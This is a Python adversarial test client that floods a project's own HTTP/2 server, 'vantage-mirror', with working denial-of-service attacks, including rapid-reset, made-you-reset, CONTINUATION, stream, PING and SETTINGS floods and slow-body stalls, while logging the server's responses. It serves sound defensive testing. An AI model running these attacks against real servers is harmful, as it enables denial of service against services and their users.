#!/usr/bin/python3
# tests/adversary/h2attack.py - a hostile HTTP/2 client for vantage-mirror (Debian's python3-h2:
# hyperframe and hpack, raw frames, so that it may send what a well-behaved library would not).
# Usage: h2attack.py --connect ADDR:PORT --ca CA.pem [--source ADDR] ATTACK [--count N]
#        [--path P]
# Attacks:
#   rapid-reset  HEADERS then RST_STREAM, count times (CVE-2023-44487)
#   streams      count GET streams at once on one connection (past MAX_CONCURRENT_STREAMS)
#   headers      one request with count 100-byte headers (past SETTINGS_MAX_HEADER_LIST_SIZE)
#   continuation HEADERS without END_HEADERS, then count CONTINUATION frames of junk headers
#   slow-headers HEADERS without END_HEADERS, then nothing
#   slow-body    count POST streams whose bodies never end
#   ping         count PINGs, never reading the acknowledgements
#   settings     count SETTINGS frames, never reading the acknowledgements
#   push         a PUSH_PROMISE from the client
#   idle         the preface and SETTINGS, then nothing
#   made-you-reset  count GET /dns-query streams for unique names below --name (END_STREAM),
#                each followed by a WINDOW_UPDATE of 2^31-1 that makes the SERVER reset it
#                (CVE-2025-8671)
#   window-zero  SETTINGS_INITIAL_WINDOW_SIZE 0, then one GET --path: the reply can never flow
#   no-read      count --method (GET) --path streams, 50 at a time, never reading (--rcvbuf
#                shrinks the socket's receive buffer first)
#   cut-body     POST bodies up to just below the connection's body budget (1 MiB), then one
#                whose second DATA passes it, with its last DATA (END_STREAM) right behind:
#                "cut-answered yes|no", "cut-reset CODE"
#   big-post     count POST /dns-query of --size bytes (a query for --name, padded) at once
# Besides, "status CODE N" lines count the replies' :status values.
# "connect-failed KIND" (exit 3) when the mirror refuses the connection.
# Prints one line per event, "T EVENT ..." with T in seconds since the start, e.g.
# "0.512 goaway ENHANCE_YOUR_CALM", "0.100 refused 200", "3.004 reset 5 CANCEL",
# "4.000 closed", "0.090 answered 100"; "end" when the connection is over or the
# attack's wait (--wait seconds, default 15) ran out.
import argparse
import socket
import ssl
import sys
import time

import base64
import os
import struct

from hpack import Decoder, Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, PushPromiseFrame, RstStreamFrame, SettingsFrame,
                              WindowUpdateFrame)

ERRORS = {0: 'NO_ERROR', 1: 'PROTOCOL_ERROR', 2: 'INTERNAL_ERROR', 3: 'FLOW_CONTROL_ERROR',
          5: 'STREAM_CLOSED', 6: 'FRAME_SIZE_ERROR', 7: 'REFUSED_STREAM', 8: 'CANCEL',
          9: 'COMPRESSION_ERROR', 11: 'ENHANCE_YOUR_CALM'}
T0 = time.monotonic()


def say(*words):
    print('%.3f %s' % (time.monotonic() - T0, ' '.join(str(w) for w in words)), flush=True)


def connect(args):
    host, port = args.connect.rsplit(':', 1)
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if args.rcvbuf:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, args.rcvbuf)
    if args.source:
        raw.bind((args.source, 0))
    raw.settimeout(10)
    raw.connect((host, int(port)))
    ctx = ssl.create_default_context(cafile=args.ca)
    ctx.check_hostname = False
    ctx.set_alpn_protocols(['h2'])
    s = ctx.wrap_socket(raw)
    if s.selected_alpn_protocol() != 'h2':
        say('no-h2', s.selected_alpn_protocol())
        sys.exit(2)
    s.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + SettingsFrame(0).serialize())
    return s


class Reader:
    """Frames from the socket; records GOAWAY, resets and finished answers."""

    def __init__(self, s):
        SOCK[s] = self
        self.s, self.buf, self.closed = s, b'', False
        self.goaway = None
        self.resets = {}
        self.answered = 0
        self.answered_ids = set()
        self.reset_ids = {}
        self.status = {}
        self.dec = Decoder()
        self.conn_window = 65535

    def pump(self, timeout):
        self.s.settimeout(timeout)
        try:
            data = self.s.recv(65536)
        except (socket.timeout, ssl.SSLWantReadError):
            return False
        except (ConnectionError, ssl.SSLError, OSError, ValueError):
            data = b''
        if not data:
            if not self.closed:
                say('closed')
            self.closed = True
            return False
        self.buf += data
        while len(self.buf) >= 9:
            f, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                break
            f.parse_body(memoryview(self.buf[9:9 + length]))
            self.buf = self.buf[9 + length:]
            self.frame(f)
        return True

    def frame(self, f):
        if isinstance(f, GoAwayFrame):
            self.goaway = ERRORS.get(f.error_code, f.error_code)
            say('goaway', self.goaway)
        elif isinstance(f, RstStreamFrame):
            code = ERRORS.get(f.error_code, f.error_code)
            self.resets[code] = self.resets.get(code, 0) + 1
            self.reset_ids[f.stream_id] = code
        elif isinstance(f, WindowUpdateFrame) and f.stream_id == 0:
            self.conn_window += f.window_increment
        if isinstance(f, HeadersFrame):
            # Decoded in order, every one: HPACK's table is shared by the connection.
            for name, value in self.dec.decode(f.data, raw=True):
                if name == b':status':
                    code = value.decode()
                    self.status[code] = self.status.get(code, 0) + 1
        if isinstance(f, (DataFrame, HeadersFrame)) and 'END_STREAM' in f.flags:
            self.answered += 1
            self.answered_ids.add(f.stream_id)
        elif isinstance(f, SettingsFrame) and 'ACK' not in f.flags:
            # The server may have closed the connection meanwhile (what a flood test waits
            # for): the next recv says so; a failed ACK is no crash of this client.
            try:
                self.s.sendall(SettingsFrame(0, flags=['ACK']).serialize())
            except (ConnectionError, ssl.SSLError, OSError):
                pass

    def drain(self, seconds):
        end = time.monotonic() + seconds
        while not self.closed and time.monotonic() < end:
            self.pump(min(0.2, max(0.01, end - time.monotonic())))


def request(enc, sid, path, method='GET', end_stream=True, extra=()):
    hdrs = [(':method', method), (':scheme', 'https'), (':authority', 'mirror'),
            (':path', path)] + list(extra)
    flags = ['END_HEADERS'] + (['END_STREAM'] if end_stream else [])
    return HeadersFrame(sid, enc.encode(hdrs), flags=flags).serialize()


SOCK = {}


def dns_query(name, size=0):
    """A DNS query for name (A), padded (EDNS(0) Padding, RFC 7830) to size bytes if given."""
    q = struct.pack('>HHHHHH', 0, 0x0100, 1, 0, 0, 1 if size else 0)
    q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
    q += struct.pack('>HH', 1, 1)
    if size:
        pad = max(0, size - len(q) - 11 - 4)
        q += b'\0' + struct.pack('>HHIH', 41, 4096, 0, 4 + pad)
        q += struct.pack('>HH', 12, pad) + b'\0' * pad
    return q


def b64(q):
    return base64.urlsafe_b64encode(q).decode().rstrip('=')


def send_body(s, r, sid, body, end=True):
    """DATA frames of at most 15000 bytes, within the connection window the server gives."""
    for off in range(0, len(body), 15000):
        chunk = body[off:off + 15000]
        end_of_wait = time.monotonic() + 5
        while r.conn_window < len(chunk) and not r.closed and time.monotonic() < end_of_wait:
            r.pump(0.05)
        r.conn_window -= len(chunk)
        last = end and off + 15000 >= len(body)
        if not send(s, DataFrame(sid, chunk, flags=['END_STREAM'] if last else []).serialize()):
            return False
    return True


def more_attacks(a, args, s, r, enc, n):
    """The attacks of issue 13's second review; False for an unknown name."""
    if a == 'made-you-reset':
        i = 0
        for i in range(n):
            sid = 1 + 2 * i
            path = '/dns-query?dns=' + b64(dns_query('slowr%d-%d.%s' % (os.getpid(), i, args.name)))
            if not send(s, request(enc, sid, path) +
                        WindowUpdateFrame(sid, window_increment=2 ** 31 - 1).serialize()):
                break
            if i % 50 == 49:
                r.pump(0.001)
            if r.closed or r.goaway:
                break
        say('sent-streams', i + 1)
    elif a == 'window-zero':
        send(s, SettingsFrame(0, settings={4: 0}).serialize() + request(enc, 1, args.path))
    elif a == 'no-read':
        for i in range(0, n, 50):
            if not send(s, b''.join(request(enc, 1 + 2 * j, args.path, args.method)
                                    for j in range(i, min(n, i + 50)))):
                break
            time.sleep(0.02)
        say('sent')
        time.sleep(args.wait)   # never reading: the mirror must give up on us
        return True
    elif a == 'cut-body':
        hdr = [('content-type', 'application/dns-message')]
        for i in range(17):
            send(s, request(enc, 1 + 2 * i, '/dns-query', 'POST', False, hdr))
            send_body(s, r, 1 + 2 * i, b'\0' * 60000, end=False)
        send(s, request(enc, 35, '/dns-query', 'POST', False, hdr))
        send_body(s, r, 35, b'\0' * 28000, end=False)
        sid = 37
        send(s, request(enc, sid, '/dns-query', 'POST', False, hdr))
        send_body(s, r, sid, b'\0' * 100, end=False)
        while r.conn_window < 1010 and not r.closed:
            r.pump(0.05)
        # Past the budget, and the end of the body in the same write: nothing in between.
        send(s, DataFrame(sid, b'\0' * 1000).serialize() +
             DataFrame(sid, b'\0' * 10, flags=['END_STREAM']).serialize())
        r.drain(1.5)
        say('cut-answered', 'yes' if sid in r.answered_ids else 'no')
        say('cut-reset', r.reset_ids.get(sid, 'none'))
    elif a == 'big-post':
        q = dns_query(args.name, args.size)
        hdr = [('content-type', 'application/dns-message')]
        for i in range(n):
            if not (send(s, request(enc, 1 + 2 * i, '/dns-query', 'POST', False, hdr)) and
                    send_body(s, r, 1 + 2 * i, q)):
                break
    else:
        return False
    return None


def send(s, data):
    """Send data; a connection the mirror has closed is reported as closed."""
    try:
        s.sendall(data)
        return True
    except (ConnectionError, ssl.SSLError, OSError):
        say('send-failed')
        r = SOCK.get(s)
        if r is not None and not r.closed:
            r.closed = True
            say('closed')
        return False


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('--connect', required=True)
    ap.add_argument('--ca', required=True)
    ap.add_argument('--source')
    ap.add_argument('--count', type=int, default=100)
    ap.add_argument('--path', default='/v1/health')
    ap.add_argument('--wait', type=float, default=15)
    ap.add_argument('--name', default='slowone.example.test')
    ap.add_argument('--size', type=int, default=0)
    ap.add_argument('--rcvbuf', type=int, default=0)
    ap.add_argument('--method', default='GET')
    ap.add_argument('attack')
    args = ap.parse_args()
    try:
        s = connect(args)
    except (OSError, ssl.SSLError) as e:
        # Refused before or during the handshake (the per-address cap closes at accept).
        say('connect-failed', type(e).__name__)
        sys.exit(3)
    r, enc, n = Reader(s), Encoder(), args.count
    a = args.attack
    if a == 'rapid-reset':
        for i in range(n):
            sid = 1 + 2 * i
            if not send(s, request(enc, sid, args.path) +
                        RstStreamFrame(sid, error_code=8).serialize()):
                break
            if i % 50 == 49:
                r.pump(0.001)
            if r.closed or r.goaway:
                break
        say('sent-resets', i + 1)
    elif a == 'streams':
        send(s, b''.join(request(enc, 1 + 2 * i, args.path) for i in range(n)))
        r.drain(0.5)
        say('refused', r.resets.get('REFUSED_STREAM', 0))
    elif a == 'headers':
        junk = [('x-junk-%d' % i, 'v' * 90) for i in range(n)]
        send(s, request(enc, 1, args.path, extra=junk))
    elif a == 'continuation':
        send(s, HeadersFrame(1, enc.encode([(':method', 'GET'), (':scheme', 'https'),
                                            (':path', args.path)])).serialize())
        for i in range(n):
            blk = enc.encode([('x-c-%d' % i, 'v' * 100)])
            if not send(s, ContinuationFrame(1, blk).serialize()):
                break
            if i % 50 == 49:
                r.pump(0.001)
            if r.closed:
                break
    elif a == 'slow-headers':
        # Settle the SETTINGS exchange first: once the block is open, nothing else may pass.
        r.drain(0.3)
        send(s, HeadersFrame(1, enc.encode([(':method', 'GET'), (':scheme', 'https')])).serialize())
    elif a == 'slow-body':
        send(s, b''.join(request(enc, 1 + 2 * i, '/dns-query', 'POST', False,
                                 [('content-type', 'application/dns-message')]) +
                         DataFrame(1 + 2 * i, b'\0\0').serialize() for i in range(n)))
    elif a == 'ping':
        send(s, b''.join(PingFrame(0, b'12345678').serialize() for _ in range(n)))
    elif a == 'settings':
        send(s, b''.join(SettingsFrame(0, settings={4: 65535}).serialize() for _ in range(n)))
    elif a == 'push':
        send(s, request(enc, 1, args.path, end_stream=False) +
             PushPromiseFrame(1, promised_stream_id=2, data=enc.encode(
                 [(':method', 'GET'), (':path', '/'), (':scheme', 'https'),
                  (':authority', 'm')])).serialize())
    elif a != 'idle':
        done = more_attacks(a, args, s, r, enc, n)
        if done is False:
            print('unknown attack ' + a, file=sys.stderr)
            sys.exit(2)
        if done:
            r.drain(2)
            say('end')
            return
    say('sent')
    r.drain(args.wait)
    for code, count in sorted(r.resets.items()):
        say('reset', count, code)
    for code, count in sorted(r.status.items()):
        say('status', code, count)
    say('answered', r.answered)
    say('end')


main()
